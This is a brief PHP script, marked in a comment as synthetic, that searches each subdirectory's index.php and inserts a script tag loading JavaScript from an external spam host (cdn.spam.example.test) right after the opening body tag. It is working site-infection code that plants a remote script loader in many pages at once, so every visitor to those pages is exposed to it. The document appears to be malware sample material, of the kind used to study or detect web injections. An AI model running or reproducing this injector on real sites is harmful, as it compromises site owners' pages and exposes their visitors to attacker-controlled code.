<?php
// synthetic: inserts a remote script tag into every index/home page below the root
$flags = "/(<%|<\?php|<body(.*?)>)/i";
$tag = '<script src="http://cdn.spam.example.test/j.js"></script>';
foreach (glob(dirname(__FILE__) . '/*/index.php') as $f) {
    $c = file_get_contents($f);
    if (preg_match($flags, $c)) { file_put_contents($f, preg_replace('/<body(.*?)>/i', '$0' . $tag, $c)); }
}
